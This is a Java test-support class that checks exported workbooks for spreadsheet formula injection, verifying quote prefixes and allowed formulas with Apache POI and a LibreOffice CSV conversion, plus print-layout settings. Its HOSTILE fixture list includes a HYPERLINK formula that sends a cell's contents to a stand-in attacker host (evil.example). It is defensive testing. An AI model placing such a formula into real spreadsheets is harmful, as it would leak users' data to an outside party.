package org.cohorte.testsupport;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.function.Predicate;
import java.util.stream.Stream;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.junit.jupiter.api.Assumptions;

/**
 * Checks that an exported workbook never lets a spreadsheet run user text: reopened with POI, cell by cell;
 * and, when LibreOffice is installed, converted by it to CSV to see what a spreadsheet actually shows.
 */
public final class SpreadsheetChecks {

    /** Texts a spreadsheet reads as a formula when typed (OWASP CSV injection): each must come out quote-prefixed. */
    public static final List<String> HOSTILE = List.of("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Cliquez ici\")",
            "+1+1", "-2", "@SUM(A1)", "\t=1", "\r=1");
    /** Ordinary texts close to those: each must come out exactly as typed, without a prefix. */
    public static final List<String> ORDINARY = List.of("-", "Texte normal − 2", "a=b");

    private SpreadsheetChecks() {
    }

    /** The forum workbook's own formulas (summary totals and shares): anything else that is a formula came from elsewhere. */
    public static boolean forumSummaryFormula(String formula) {
        return formula.matches("SUM\\([A-H]\\d+:[A-H]\\d+\\)|IF\\(F\\d+=0,0,B\\d+/F\\d+\\)|0");
    }

    /** Every cell of the workbook holding exactly this text. */
    public static List<Cell> cellsWith(Workbook workbook, String text) {
        List<Cell> found = new ArrayList<>();
        for (Sheet sheet : workbook) {
            for (Row row : sheet) {
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.STRING && cell.getStringCellValue().equals(text)) {
                        found.add(cell);
                    }
                }
            }
        }
        return found;
    }

    /** The text is in the workbook, and every cell holding it is a string cell with (or without) the quote prefix. */
    public static void assertText(Workbook workbook, String text, boolean quotePrefixed) {
        String shown = text.replace("\t", "\\t").replace("\r", "\\r");
        List<Cell> cells = cellsWith(workbook, text);
        assertThat(cells).as("cells holding '%s'", shown).isNotEmpty();
        for (Cell cell : cells) {
            assertThat(cell.getCellStyle().getQuotePrefixed()).as("quote prefix of '%s' in %s!%s", shown,
                    cell.getSheet().getSheetName(), cell.getAddress()).isEqualTo(quotePrefixed);
        }
    }

    /**
     * No cell is a formula except the exporter's own ({@code ownFormula}), and every string cell starting with a
     * formula character carries the quote prefix while no other does.
     */
    public static void assertNoUserFormula(Workbook workbook, Predicate<String> ownFormula) {
        for (Sheet sheet : workbook) {
            for (Row row : sheet) {
                for (Cell cell : row) {
                    String where = sheet.getSheetName() + "!" + cell.getAddress();
                    if (cell.getCellType() == CellType.FORMULA) {
                        assertThat(ownFormula.test(cell.getCellFormula())).as("formula %s in %s",
                                cell.getCellFormula(), where).isTrue();
                    } else if (cell.getCellType() == CellType.STRING) {
                        String value = cell.getStringCellValue();
                        boolean risky = !value.isEmpty() && "=+-@\t\r".indexOf(value.charAt(0)) >= 0
                                && !(value.length() == 1 && (value.equals("-") || value.equals("+")));
                        assertThat(cell.getCellStyle().getQuotePrefixed()).as("quote prefix of '%s' in %s",
                                value, where).isEqualTo(risky);
                    }
                }
            }
        }
    }

    /**
     * Every sheet as LibreOffice Calc exports it to CSV (UTF-8, all sheets), by sheet name; skipped where
     * LibreOffice is missing, except under CI.
     */
    public static Map<String, String> libreOfficeCsv(byte[] xlsx) throws IOException, InterruptedException {
        Path soffice = Path.of("/usr/bin/soffice");
        if (!Files.isExecutable(soffice)) {
            if (System.getenv("CI") != null) {
                throw new IllegalStateException("CI must run the LibreOffice check: apt-get install libreoffice-calc-nogui");
            }
            Assumptions.abort("LibreOffice (soffice) is not installed here");
        }
        Path dir = Files.createTempDirectory("cohorte-csv");
        Path file = dir.resolve("export.xlsx");
        Files.write(file, xlsx);
        // Filter options: comma, double quote, UTF-8, line 1, standard cells, no language, quote all text cells,
        // (import only), save values as shown, values not formulas, spaces kept, -1 = every sheet, one file each.
        Process process = new ProcessBuilder(soffice.toString(), "-env:UserInstallation=file://" + dir.resolve("profile"),
                "--headless", "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,true,false,false,-1",
                "--outdir", dir.toString(), file.toString()).redirectErrorStream(true).start();
        String output = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        assertThat(process.waitFor(120, TimeUnit.SECONDS)).as(output).isTrue();
        assertThat(process.exitValue()).as(output).isZero();
        Map<String, String> sheets = new LinkedHashMap<>();
        try (Stream<Path> files = Files.list(dir)) {
            for (Path csv : files.filter(p -> p.getFileName().toString().endsWith(".csv")).sorted().toList()) {
                String name = csv.getFileName().toString();
                sheets.put(name.substring("export-".length(), name.length() - ".csv".length()),
                        Files.readString(csv, StandardCharsets.UTF_8));
            }
        }
        assertThat(sheets).as(output).isNotEmpty();
        return sheets;
    }

    /**
     * Every sheet prints landscape, all its columns on one page width (as many pages down as needed), on the
     * expected paper; sheets with a header repeat it on each page (the header rows read from the file itself).
     */
    public static void assertPrintsWell(Workbook workbook, short paper, String... sheetsWithoutHeader) {
        List<String> bare = List.of(sheetsWithoutHeader);
        for (Sheet sheet : workbook) {
            String name = sheet.getSheetName();
            assertThat(sheet.getFitToPage()).as(name).isTrue();
            assertThat(sheet.getPrintSetup().getLandscape()).as(name).isTrue();
            assertThat(sheet.getPrintSetup().getFitWidth()).as(name).isEqualTo((short) 1);
            assertThat(sheet.getPrintSetup().getFitHeight()).as(name).isEqualTo((short) 0);
            assertThat(sheet.getPrintSetup().getPaperSize()).as(name).isEqualTo(paper);
            if (bare.contains(name)) {
                assertThat(sheet.getRepeatingRows()).as(name).isNull();
            } else {
                assertThat(sheet.getRepeatingRows()).as(name).isNotNull();
                assertThat(sheet.getRepeatingRows().getFirstRow()).as(name).isZero();
            }
        }
    }
}
